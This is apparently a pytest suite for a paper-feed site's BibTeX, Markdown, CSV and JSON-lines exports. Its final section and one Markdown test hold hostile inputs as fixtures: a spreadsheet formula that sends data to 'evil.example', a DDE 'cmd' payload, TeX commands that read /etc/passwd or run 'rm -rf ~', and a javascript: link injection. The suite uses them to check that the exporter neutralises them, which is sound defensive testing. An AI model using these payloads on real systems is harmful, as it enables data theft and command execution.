"""BibTeX and Markdown for a paper, CSV and JSON lines for any list, on both backends."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt
from sqlalchemy import select

from paperfeed.models import Paper
from paperfeed.web.exports import COLUMNS, bibtex_text, citation_key
from paperfeed.web.routes import downloads
from tests.web.test_syndication import TRICKY_TITLE, Site, card_ids, site

__all__ = ["site"]  # the community-site fixture


def fields(entry: str) -> dict[str, str]:
    """`name = {value}` (or a bare macro) pairs of one BibTeX entry."""
    found = {}
    for line in entry.splitlines()[1:-1]:
        name, value = line.split("=", 1)
        value = value.strip().rstrip(",")
        found[name.strip()] = value[1:-1] if value.startswith("{") else value
    return found


def balanced(text: str) -> bool:
    depth = 0
    for char in text:
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            return False
    return depth == 0


def read_csv(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv; charset=utf-8")
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def read_jsonl(response) -> list[dict]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("application/jsonl")
    lines = response.content.decode("utf-8").splitlines()
    return [json.loads(line) for line in lines]


# --- BibTeX ---------------------------------------------------------------------------------


def test_bibtex_for_an_arxiv_paper_with_a_journal(client: TestClient) -> None:
    response = client.get("/papers/0704.0001.bib")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.headers["content-disposition"] == 'inline; filename="0704.0001.bib"'
    entry = response.text
    assert entry.startswith("@article{balazs2007calculation,\n")
    assert balanced(entry)
    assert fields(entry) == {
        "title": "Calculation of prompt diphoton production cross sections at Tevatron and "
        "{LHC} energies",
        "author": "C. Bal{\\'a}zs and E. L. Berger and P. M. Nadolsky and C.-P. Yuan",
        "year": "2007",
        "month": "apr",
        "journal": "Phys.Rev.D76:013009,2007",
        "doi": "10.1103/PhysRevD.76.013009",
        "eprint": "0704.0001",
        "archivePrefix": "arXiv",
        "primaryClass": "hep-ph",
        "url": "https://arxiv.org/abs/0704.0001",
    }


def test_bibtex_without_a_journal_is_misc_and_keeps_math(client: TestClient) -> None:
    entry = client.get("/papers/0704.0002.bib").text
    assert entry.startswith("@misc{")
    assert fields(entry)["primaryClass"] == "math.CO"
    assert "journal" not in fields(entry)
    # A title with math: the formula is passed to LaTeX as written.
    month = client.get("/papers/month/2007-04.jsonl").text
    with_math = next(
        json.loads(line) for line in month.splitlines() if "$" in json.loads(line)["title"]
    )
    math_entry = client.get(f"/papers/{with_math['id']}.bib").text
    formulas = re.findall(r"\$[^$]+\$", with_math["title"])
    assert all(formula in math_entry for formula in formulas)
    assert balanced(math_entry)


def test_bibtex_escapes_special_characters_of_a_local_paper(site: Site) -> None:
    client, ids = site.client, site.ids
    local = client.get(f"/papers/{ids['local']}.bib").text
    assert local.startswith("@misc{lovelace2026uber,\n")
    values = fields(local)
    assert values["title"] == '{\\"U}ber {BERT}: Attention \\& Tables, 50\\% faster'
    assert values["author"] == "Ada Lovelace"
    assert values["url"] == f"http://127.0.0.1:8000/papers/{ids['local']}"
    assert "eprint" not in values

    tricky = client.get(f"/papers/{ids['tricky']}.bib").text
    assert balanced(tricky)
    values = fields(tricky)
    assert tricky.startswith("@misc{muller2026cost,\n")
    assert values["title"] == (
        "Cost \\& 100\\% of $x_i^2$ \\#1: \\textless{}b\\textgreater{}bold"
        '\\textless{}/b\\textgreater{} "quoted", a\\_b \\textasciitilde{} '
        "\\textasciicircum{} (open"
    )
    assert values["author"] == (
        "Jos{\\'e} M{\\\"u}ller and Zo{\\\"e} O'Brien-{\\L}ukasz and Wei Zhang"
    )
    assert values["doi"] == "10.1000/xyz_1"  # verbatim: pybtex and biblatex read it as is
    assert values["eprint"] == "2611.00001"
    assert values["primaryClass"] == "cs.LG"

    old = client.get("/papers/hep-th/9901001.bib").text
    assert old.startswith("@article{witten1999strings,\n")
    assert fields(old)["eprint"] == "hep-th/9901001"
    assert fields(old)["title"] == "Strings in {curved} space"
    assert (
        'filename="hep-th_9901001.bib"'
        in client.get("/papers/hep-th/9901001.bib").headers["content-disposition"]
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("50% of A&B #1", "50\\% of A\\&B \\#1"),
        ("costs $5 and ~3", "costs \\$5 and \\textasciitilde{}3"),
        ("a \\ lone backslash", "a \\textbackslash{} lone backslash"),
        ("kept \\alpha and \\'e", "kept \\alpha and \\'e"),
        ("unbalanced } brace {", "unbalanced ) brace ("),
        ("math $a_{b}$ and $\\{x\\}$", "math $a_{b}$ and $\\{x\\}$"),
        ("Ærø café naïve", "{\\AE}r{\\o} caf{\\'e} na{\\\"\\i}ve"),
        ("日本語 stays", "日本語 stays"),
    ],
)
def test_bibtex_text_escaping(text: str, expected: str) -> None:
    assert bibtex_text(text) == expected
    assert balanced(bibtex_text(text))


def test_citation_keys_skip_short_words_and_fold_accents() -> None:
    from paperfeed.models import Paper

    paper = Paper(title="The $O(n)$ Art of Everything", published_at=None, feed_at=None)
    paper.created_at = None  # type: ignore[assignment]
    assert citation_key(paper, ["Émile Zola"]) == "zolaart"
    assert citation_key(paper, []) == "anonymousart"
    assert citation_key(paper, ["Doe, Jane"]) == "doeart"


# --- Markdown -------------------------------------------------------------------------------


def test_markdown_of_a_paper_with_comments(site: Site) -> None:
    client, ids = site.client, site.ids
    response = client.get(f"/papers/{ids['tricky']}.md")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'inline; filename="2611.00001.md"'
    text = response.text
    lines = text.splitlines()
    assert lines[0] == (
        '# Cost & 100% of $x_i^2$ \\#1: \\<b\\>bold\\</b\\> "quoted", a\\_b ~ ^ {open'
    )
    assert "**Authors:** José Müller, Zoë O'Brien-Łukasz, Wei Zhang  " in lines
    assert "**Organization:** [Acme Research](http://127.0.0.1:8000/orgs/acme)  " in lines
    assert "**Dates:** published 2026-11-02, in the feed 2026-11-19  " in lines
    assert "**Categories:** cs.LG, stat.ML  " in lines
    assert "**Upvotes:** 6 upvotes · 2 comments  " in lines  # 5 imported + Ada's vote
    assert (
        "**Links:** [2611.00001](http://127.0.0.1:8000/papers/2611.00001) · "
        "[arXiv:2611.00001](https://arxiv.org/abs/2611.00001) · "
        "[PDF](https://arxiv.org/pdf/2611.00001) · "
        "[DOI 10.1000/xyz\\_1](https://doi.org/10.1000/xyz_1)" in lines
    )
    abstract = lines[lines.index("## Abstract") + 2]
    assert abstract.startswith("We bound $\\alpha$ by 50%")
    comments = text.split("## Comments", 1)[1]
    assert "> **ada**, 2026-11-20:" in comments
    assert "> Nice *result* with $x^2$.\n>\n> Second paragraph." in comments
    assert "> > **bob**, 2026-11-20:\n> >\n> > Agreed." in comments
    assert "rude" not in text  # hidden by a moderator


def test_markdown_of_a_quiet_local_paper(site: Site) -> None:
    text = site.client.get(f"/papers/{site.ids['local']}.md").text
    assert text.startswith("# Über BERT: Attention & Tables, 50% faster\n")
    assert "## Comments" not in text
    assert "[PDF]" not in text


def test_an_imported_link_cannot_add_a_link_of_its_own_to_the_markdown(site: Site) -> None:
    # Imports check only that a link starts with http(s)://; the Markdown must keep each
    # address inside its own link.
    hostile = "https://example.org/a)[Click](javascript:alert(1)"
    with site.db.transaction() as session:
        paper = session.scalars(select(Paper).where(Paper.title.startswith("Über"))).one()
        paper.github_url, paper.project_url = hostile, "https://example.org/x y<z>"
        paper.doi = "10.1002/(SICI)1097-4628"
    text = site.client.get(f"/papers/{site.ids['local']}.md").text
    hrefs = [
        attrs["href"]
        for token in MarkdownIt().parse(text)
        for child in token.children or []
        if child.type == "link_open"
        for attrs in [child.attrs]
    ]
    assert not any("javascript" in str(h).split("%29")[0] for h in hrefs if "%" not in str(h))
    assert "https://example.org/a%29%5BClick%5D%28javascript:alert%281%29" in hrefs
    assert "https://example.org/x%20y%3Cz%3E" in hrefs
    assert "https://doi.org/10.1002/%28SICI%291097-4628" in hrefs
    assert not any(str(h).startswith("javascript") for h in hrefs)


# --- CSV and JSON lines ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/", "/papers/date/2026-11-18?sort=newest", "/papers/month/2026-11", "/papers/trending"],
)
def test_csv_and_jsonl_hold_the_list_in_page_order(client: TestClient, path: str) -> None:
    html = client.get(path).text
    shown = card_ids(html)
    base, _, query = path.partition("?")
    base = "/papers" if base == "/" else base
    suffix = f"?{query}" if query else ""
    assert f'href="{base}.csv{suffix}" download' in html
    rows = read_csv(client.get(f"{base}.csv{suffix}"))
    records = read_jsonl(client.get(f"{base}.jsonl{suffix}"))
    assert [r["id"] for r in rows][: len(shown)] == shown
    assert [r["id"] for r in records] == [r["id"] for r in rows]
    assert [r["rank"] for r in records] == list(range(1, len(records) + 1))
    for row, record in zip(rows, records, strict=True):
        assert row["title"] == record["title"]
        assert row["abstract"] == record["abstract"]
        assert row["authors"] == "; ".join(record["authors"])
        assert int(row["upvotes"]) == record["upvotes"]
        assert row["url"] == record["url"] == f"http://127.0.0.1:8000/papers/{record['id']}"
    if path == "/papers/trending":
        assert float(rows[0]["score"]) > 0 and all(float(r["score"]) >= 0 for r in rows)
        scores = [r["score"] for r in records]
        assert scores == sorted(scores, reverse=True)


def test_exports_round_trip_awkward_text(site: Site) -> None:
    client, ids = site.client, site.ids
    response = client.get("/papers/date/2026-11-19.csv")
    assert response.headers["content-disposition"] == (
        'attachment; filename="paperfeed-date-2026-11-19.csv"'
    )
    rows = read_csv(response)
    assert [r["id"] for r in rows] == [ids["tricky"], ids["local"]]
    tricky = rows[0]
    assert tricky["title"] == TRICKY_TITLE
    assert tricky["abstract"] == (
        'We bound $\\alpha$ by 50%, with commas, "quotes"\x0b and\na new line.'
    )
    assert tricky["authors"] == "José Müller; Zoë O'Brien-Łukasz; Wei Zhang"
    assert tricky["categories"] == "cs.LG stat.ML"
    assert tricky["organization"] == "acme"
    assert tricky["published"] == "2026-11-02" and tricky["feed_date"] == "2026-11-19"
    assert tricky["arxiv_url"] == "https://arxiv.org/abs/2611.00001"
    assert rows[1]["arxiv_url"] == "" and rows[1]["pdf_url"] == ""

    records = read_jsonl(client.get("/users/ada.jsonl?list=upvoted"))
    assert [r["id"] for r in records] == [ids["old"], ids["tricky"]]
    assert records[1]["title"] == TRICKY_TITLE
    assert records[1]["authors"] == ["José Müller", "Zoë O'Brien-Łukasz", "Wei Zhang"]
    assert records[0]["journal_ref"] == "Nucl.Phys. B550 (1999) 1"
    assert records[0]["arxiv_url"] == "https://arxiv.org/abs/hep-th/9901001"
    assert records[0]["score"] is None
    org = client.get("/orgs/acme.csv")
    assert 'filename="paperfeed-org-acme.csv"' in org.headers["content-disposition"]


def test_search_exports_follow_the_search_page(search_client: TestClient) -> None:
    query = "q=theory&from=2007-01-01&to=2007-12-31&sort=upvotes"
    shown = card_ids(search_client.get(f"/papers?{query}").text)
    rows = read_csv(search_client.get(f"/papers.csv?{query}"))
    assert [r["id"] for r in rows][: len(shown)] == shown
    assert all(r["published"].startswith("2007") for r in rows)
    assert all(float(r["score"]) > 0 for r in rows)  # the fused relevance score
    records = read_jsonl(search_client.get(f"/papers.jsonl?{query}"))
    assert [r["id"] for r in records] == [r["id"] for r in rows]


def test_exports_come_in_pages_with_a_next_link(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A list longer than one file continues at `?p=2`, announced in a Link header."""
    monkeypatch.setattr(downloads, "EXPORT_LIMIT", 150)
    month = card_ids(client.get("/papers/month/2026-11").text)
    first = client.get("/papers/month/2026-11.csv?sort=upvotes")
    assert first.headers["link"] == '</papers/month/2026-11.csv?sort=upvotes&p=2>; rel="next"'
    rows = read_csv(first)
    assert len(rows) == 150 and [r["id"] for r in rows][:50] == month
    last = client.get("/papers/month/2026-11.jsonl?sort=upvotes&p=3")
    records = read_jsonl(last)
    assert len(records) == 368 - 300 and records[0]["rank"] == 301
    assert "link" not in last.headers
    assert 'filename="paperfeed-month-2026-11-p3.jsonl"' in last.headers["content-disposition"]
    assert client.get("/papers/month/2026-11.csv?p=4").status_code == 404


# --- caching and bad input ------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/papers/0704.0001.bib", "/papers/0704.0001.md", "/papers/date/2026-11-19.csv"]
)
def test_exports_answer_304_when_nothing_changed(client: TestClient, path: str) -> None:
    first = client.get(path)
    assert first.status_code == 200
    again = client.get(path, headers={"if-none-match": first.headers["etag"]})
    assert again.status_code == 304 and again.content == b""
    assert again.headers["etag"] == first.headers["etag"]


def test_a_new_comment_changes_the_markdown(site: Site) -> None:
    from paperfeed.community import comments
    from paperfeed.models import Paper, User

    client = site.client
    path = f"/papers/{site.ids['local']}.md"
    first = client.get(path)
    with site.db.transaction() as session:
        from sqlalchemy import select

        ada = session.execute(select(User).where(User.username == "ada")).scalar_one()
        pk = session.execute(select(Paper.id).where(Paper.public_id == site.ids["local"]))
        comments.add_comment(session, ada, pk.scalar_one(), "A fresh thought.")
    second = client.get(path, headers={"if-none-match": first.headers["etag"]})
    assert second.status_code == 200 and "A fresh thought." in second.text


@pytest.mark.parametrize(
    ("path", "status", "message"),
    [
        ("/papers/9999.99999.bib", 404, "There is no paper"),
        ("/papers/hep-th/9901001.md", 404, "There is no paper"),
        ("/papers/pf-000000000000.md", 404, "There is no paper"),
        ("/papers/date/2026-11-19.tsv", 404, "Unknown format"),
        ("/papers/date/2026-13-01.csv", 400, "is not a valid date"),
        ("/papers/month/2026-11.csv?p=x", 400, "page number"),
    ],
)
def test_bad_export_addresses_get_a_4xx_with_a_reason(
    client: TestClient, path: str, status: int, message: str
) -> None:
    response = client.get(path)
    assert response.status_code == status
    assert message in response.text
    assert "Traceback" not in response.text


def test_versions_and_hidden_papers(site: Site, client: TestClient) -> None:
    moved = client.get("/papers/0704.0001v2.bib")
    assert moved.status_code == 301 and moved.headers["location"] == "/papers/0704.0001.bib"
    hidden = site.client.get(f"/papers/{site.ids['hidden']}.md")
    assert hidden.status_code == 404 and "removed by a moderator" in hidden.text


# --- hostile metadata: spreadsheet formulas, TeX commands, DOIs, name suffixes ---------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
HOSTILE_TITLE = "Reading \\input{/etc/passwd} with $\\alpha \\leq \\beta$ and $\\write18{id}$"
HOSTILE_DOI = "10.1000/a_b%c#d~e"


@pytest.fixture
def hostile(db, tmp_path):  # type: ignore[no-untyped-def]
    """Two papers whose metadata attacks spreadsheets and TeX, served on both backends."""
    from datetime import UTC, datetime

    from paperfeed.papers.records import PaperRecord
    from paperfeed.papers.store import upsert_papers
    from paperfeed.web.app import create_app
    from tests.conftest import make_settings

    day = datetime(2026, 11, 19, 14, 0, tzinfo=UTC)
    records = [
        PaperRecord(
            title=FORMULA_TITLE,
            abstract="-2+3 is a formula too",
            authors=["@SUM(1+1)*cmd|' /C calc'!A0", "+Plus Person", "\tTab Person"],
            arxiv_id="2611.00011",
            feed_at=day,
            upvotes=2,
        ),
        PaperRecord(
            title=HOSTILE_TITLE,
            abstract="\\def\\x{1} \\catcode`\\@=11 \\openin \\include{x} $x^^5cinput$",
            authors=["Neal J. Evans II", "Ludwig van Beethoven, Jr.", "José Müller"],
            arxiv_id="2611.00012",
            doi=HOSTILE_DOI,
            feed_at=day,
            upvotes=1,
        ),
    ]
    with db.transaction() as session:
        upsert_papers(session, records)
    app = create_app(make_settings(tmp_path, db.url), db)
    with TestClient(app, follow_redirects=False) as client:
        yield client


def test_csv_cells_that_spreadsheets_would_run_are_quoted(hostile: TestClient) -> None:
    rows = read_csv(hostile.get("/papers/date/2026-11-19.csv"))
    first = rows[0]
    assert first["title"] == "'" + FORMULA_TITLE
    assert first["abstract"] == "'-2+3 is a formula too"
    assert first["authors"].startswith("'@SUM(1+1)")
    assert rows[1]["title"] == HOSTILE_TITLE  # ordinary text is untouched
    assert first["upvotes"] == "2" and first["url"].startswith("http")
    # JSON lines are data for programs: kept exactly as stored.
    records = read_jsonl(hostile.get("/papers/date/2026-11-19.jsonl"))
    assert records[0]["title"] == FORMULA_TITLE
    assert records[0]["authors"][0] == "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    from paperfeed.web.exports import csv_cell

    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("a=1") == "a=1" and csv_cell(-3) == -3 and csv_cell(None) == ""


def test_bibtex_round_trips_doi_url_and_name_parts_through_pybtex(hostile: TestClient) -> None:
    from pybtex.database import parse_string

    text = hostile.get("/papers/2611.00012.bib").text
    entry = next(iter(parse_string(text, "bibtex").entries.values()))
    assert entry.fields["doi"] == HOSTILE_DOI
    assert entry.fields["url"] == "https://arxiv.org/abs/2611.00012"
    evans, beethoven, muller = entry.persons["author"]
    assert (evans.first_names, evans.middle_names, evans.last_names, evans.lineage_names) == (
        ["Neal"],
        ["J."],
        ["Evans"],
        ["II"],
    )
    assert beethoven.prelast_names == ["van"] and beethoven.last_names == ["Beethoven"]
    assert beethoven.lineage_names == ["Jr."] and beethoven.first_names == ["Ludwig"]
    assert muller.last_names == ['M{\\"u}ller'] and muller.lineage_names == []
    assert text.startswith("@misc{evans")  # the key uses the family name, not the suffix


@pytest.mark.parametrize(
    "command",
    [
        "\\input{/etc/passwd}",
        "\\include{x}",
        "\\write18{rm -rf ~}",
        "\\immediate\\write18{id}",
        "\\openin5=/etc/passwd",
        "\\def\\a{b}",
        "\\catcode`\\@=11",
        "\\csname input\\endcsname",
        "\\usepackage{shellesc}",
    ],
)
@pytest.mark.parametrize("where", ["{}", "${}$", "$x + {}$", "\\textbf{{{}}}"])
def test_tex_commands_off_the_allow_list_are_escaped(command: str, where: str) -> None:
    written = bibtex_text(where.format(command))
    # Every backslash left is an allowed command or one this module wrote to escape.
    names = re.findall(r"\\([A-Za-z]+)", written)
    assert set(names) <= {"textbackslash", "textbf", "textasciitilde"}, written
    assert balanced(written)


def test_math_accents_and_fonts_still_pass_through() -> None:
    kept = "$\\alpha \\leq \\frac{1}{2}$ \\'e \\textbf{x} $\\begin{pmatrix}a&b\\end{pmatrix}$"
    assert bibtex_text(kept) == kept
    assert bibtex_text("$x^^5cinput$") == "\\$x\\textasciicircum{}\\textasciicircum{}5cinput\\$"
    assert bibtex_text("$\\begin{document}$").startswith("\\$\\textbackslash{}begin")
    assert bibtex_text("$a%b#c$") == "$a\\%b\\#c$"


def test_hostile_bibtex_from_the_route_escapes_commands(hostile: TestClient) -> None:
    values = fields(hostile.get("/papers/2611.00012.bib").text)
    assert values["title"] == (
        "Reading \\textbackslash{}input{/etc/passwd} with $\\alpha \\leq \\beta$ and "
        "\\$\\textbackslash{}write18{id}\\$"
    )
